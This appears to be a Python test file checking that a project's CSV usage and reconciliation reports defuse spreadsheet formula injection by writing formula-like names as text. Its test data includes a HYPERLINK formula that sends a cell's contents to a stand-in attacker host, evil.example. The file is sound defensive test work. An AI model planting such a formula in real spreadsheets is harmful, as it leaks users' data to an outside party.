"""The CSV reports' text cells never run as spreadsheet formulas (OWASP "CSV injection"): an
account, institution or username that starts like a formula is written as text, numbers
(negative differences included) stay numbers. Found attacking as a project member: the usage
and reconciliation CSVs wrote such names as they were."""

from __future__ import annotations

import csv
import io

import pytest

from myriagate.domain.spreadsheet_cells import spreadsheet_cell, spreadsheet_text
from myriagate.services.allocations import reconciliation
from myriagate.services.allocations.reports import UsageRow, to_csv
from myriagate.web.i18n import Translator
from myriagate.web.pages.admin_usage import _spreadsheet_csv

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_a_text_that_starts_like_a_formula_is_made_text(start: str) -> None:
    assert spreadsheet_text(start + "1+1") == "'" + start + "1+1"


@pytest.mark.parametrize("text", ["caen-climat", "unicaen", "", "a=b", "(outside)", "é=1"])
def test_ordinary_text_is_unchanged(text: str) -> None:
    assert spreadsheet_text(text) == text


def test_numbers_stay_numbers() -> None:
    assert spreadsheet_cell(-3600) == -3600 and spreadsheet_cell(0) == 0


def _usage_row(**names: str) -> UsageRow:
    fields = {"month": "2026-01", "institution": "unicaen", "cluster": "devcluster",
              "slurm_account": "caen-climat", "username": "alice"} | names  # fmt: skip
    return UsageRow(**fields, jobs=1, core_seconds=5400, gpu_seconds=0)


@pytest.mark.parametrize("field", ["institution", "slurm_account", "username", "cluster"])
def test_the_usage_csv_writes_a_formula_name_as_text(field: str) -> None:
    [header, row] = list(csv.reader(io.StringIO(to_csv([_usage_row(**{field: FORMULA})]))))
    assert row[header.index("user" if field == "username" else field)] == "'" + FORMULA
    assert row[header.index("core_seconds")] == "5400"


def test_the_french_spreadsheet_csv_writes_a_formula_name_as_text() -> None:
    text = _spreadsheet_csv([_usage_row(slurm_account=FORMULA, username="@SUM(1)")], Translator("fr"))
    [_, row] = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))
    assert row[3] == "'" + FORMULA and row[4] == "'@SUM(1)"
    assert row[8] == "1,5"


def test_the_reconciliation_csv_writes_a_formula_name_as_text_and_keeps_negative_numbers() -> None:
    row = reconciliation.ReconciliationRow(
        cluster="devcluster", institution="-2+3", slurm_account=FORMULA, slurm_jobs=1,
        slurm_core_seconds=0, slurm_gpu_seconds=0, charged_entries=1, charged_core_seconds=60,
        charged_gpu_seconds=0, diff_core_seconds=-60, diff_gpu_seconds=0, flagged=True,
    )  # fmt: skip
    [parsed] = list(csv.DictReader(io.StringIO(reconciliation.to_csv([row]))))
    assert parsed["institution"] == "'-2+3" and parsed["slurm_account"] == "'" + FORMULA
    assert parsed["diff_core_seconds"] == "-60"
